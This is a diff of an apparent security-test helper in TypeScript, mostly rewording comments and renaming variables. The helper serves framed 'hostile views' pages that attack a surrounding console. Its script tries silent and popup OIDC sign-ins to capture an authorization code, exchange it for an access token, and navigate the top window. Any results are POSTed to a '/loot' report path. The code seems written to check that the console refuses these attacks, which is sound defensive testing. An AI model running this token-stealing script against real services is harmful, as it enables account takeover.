@@ -1,23 +1,23 @@
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 
-/** What a script got hold of, by the name of what it tried; empty where everything failed. */
+/** Data that a hostile script obtained, by the name of the attack; empty if every attack failed. */
 export type StolenData = Record<string, unknown>
 
-/** A service of views whose pages attack whoever frames them. */
+/** A view service whose pages attack the page that frames them. */
 export interface HostileViews {
   url: string
-  /** Tells its pages where the console is. */
+  /** Sets the origin of the console to attack. */
   aimAt(consoleOrigin: string): void
-  /** Resolves with what the next page reports. */
+  /** Resolves with the next page's report. */
   loot(): Promise<StolenData>
   close(): Promise<void>
 }
 
-/** Where pages of the hostile service report to, below any base path. */
+/** Path to which hostile pages report, below any base path. */
 const REPORT = '/loot'
 
-/** Starts a service that answers every address with a page that attacks the console around it. */
+/** Starts a service that answers every request with a page that attacks the surrounding console. */
 export async function hostileViews(): Promise<HostileViews> {
   let consoleOrigin = ''
   const reports: StolenData[] = []
@@ -36,18 +36,18 @@ export async function hostileViews(): Promise<HostileViews> {
       return
     }
     response.setHeader('content-type', 'text/html; charset=utf-8')
-    // Whatever the upstream says of itself, it gains nothing by it.
+    // The service must not pass these headers on.
     response.setHeader('content-security-policy', 'frame-ancestors *')
     response.setHeader('cross-origin-resource-policy', 'cross-origin')
-    const tell = `(loot) => fetch('/supervision${REPORT}', { method: 'POST', body: JSON.stringify(loot) })`
+    const report = `(loot) => fetch('/supervision${REPORT}', { method: 'POST', body: JSON.stringify(loot) })`
     response.end(`<!doctype html><title>Hostile</title><main>A view of another service</main>
-      <script>${attackScript(consoleOrigin)}.then(${tell})</script>`)
+      <script>${attackScript(consoleOrigin)}.then(${report})</script>`)
   })
   await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
   return {
     url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
     aimAt: (origin) => (consoleOrigin = origin),
-    loot: async () => reports.shift() ?? new Promise((tell) => waiting.push(tell)),
+    loot: async () => reports.shift() ?? new Promise((resolve) => waiting.push(resolve)),
     close: async () => {
       server.closeAllConnections()
       await new Promise((done) => server.close(done))
@@ -55,12 +55,12 @@ export async function hostileViews(): Promise<HostileViews> {
   }
 }
 
-/** A script that tries everything it can on the console that frames it; its value is a promise of its loot. */
+/** A script that tries every attack on the console that frames it; evaluates to a promise of the stolen data. */
 export function attackScript(consoleOrigin: string): string {
   return `(${attack.toString()})(${JSON.stringify(consoleOrigin)})`
 }
 
-/** Runs in a page: it may use nothing from outside of itself. */
+/** Runs in the page, so it must not use anything defined outside this function. */
 async function attack(target: string): Promise<StolenData> {
   const loot: StolenData = {}
   const attempt = async (name: string, work: () => unknown): Promise<void> => {
@@ -68,7 +68,7 @@ async function attack(target: string): Promise<StolenData> {
       const found = await work()
       if (found !== undefined && found !== null && found !== '' && found !== false) loot[name] = found
     } catch {
-      // Refused, as it should be.
+      // Refused, as expected.
     }
   }
   const messages: string[] = []
@@ -81,33 +81,33 @@ async function attack(target: string): Promise<StolenData> {
       .replaceAll('=', '')
   const verifier = 'x'.repeat(64)
   const challenge = base64(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))))
-  const signIn = (way: string): string =>
+  const signIn = (path: string): string =>
     `${target}/oidc/auth?${new URLSearchParams({
       client_id: 'console',
       response_type: 'code',
       scope: 'openid profile email',
       prompt: 'none',
-      redirect_uri: `${target}/auth/${way}`,
+      redirect_uri: `${target}/auth/${path}`,
       state: 'stolen',
       code_challenge: challenge,
       code_challenge_method: 'S256',
     })}`
-  /** The access token for the code in an answer of the provider, wherever that answer shows up. */
-  const redeemed = async (way: string, address: () => string): Promise<unknown> => {
+  /** Whether the code of the provider's response, wherever it appears, can be exchanged for an access token. */
+  const exchangeCode = async (path: string, address: () => string): Promise<unknown> => {
     for (let tries = 0; tries < 15; tries++) {
       await pause(100)
       const seen = [messages.find((message) => message.includes('code='))?.replace(/.*?(https?:[^"]+).*/, '$1') ?? '']
       try {
         seen.push(address())
       } catch {
-        // Of another origin.
+        // The address belongs to another origin.
       }
       const code = seen.map((url) => /[?&]code=([^&]+)/.exec(url)?.[1]).find(Boolean)
       if (code === undefined) continue
       const body = { grant_type: 'authorization_code', client_id: 'console', code, code_verifier: verifier }
       const answer = await fetch(`${target}/oidc/token`, {
         method: 'POST',
-        body: new URLSearchParams({ ...body, redirect_uri: `${target}/auth/${way}` }),
+        body: new URLSearchParams({ ...body, redirect_uri: `${target}/auth/${path}` }),
       })
       return ((await answer.json()) as { access_token?: string }).access_token !== undefined
     }
@@ -129,17 +129,17 @@ async function attack(target: string): Promise<StolenData> {
     const frame = document.createElement('iframe')
     frame.src = signIn('silent')
     document.body.append(frame)
-    return redeemed('silent', () => frame.contentWindow?.location.href ?? '')
+    return exchangeCode('silent', () => frame.contentWindow?.location.href ?? '')
   })
   messages.length = 0
   await attempt('a token by a popup', async () => {
     const popup = open(signIn('popup'), 'stolen', 'width=300,height=300')
-    const found = await redeemed('popup', () => popup?.location.href ?? '')
+    const found = await exchangeCode('popup', () => popup?.location.href ?? '')
     popup?.close()
     return found
   })
   await attempt('the window of the console', () => {
-    // In a window of its own, the page would only move itself, and take its findings with it.
+    // In its own window the page would only navigate itself away and lose its report.
     if (top !== null && top !== self) top.location.href = `${self.origin}/moved`
   })
   for (const message of [
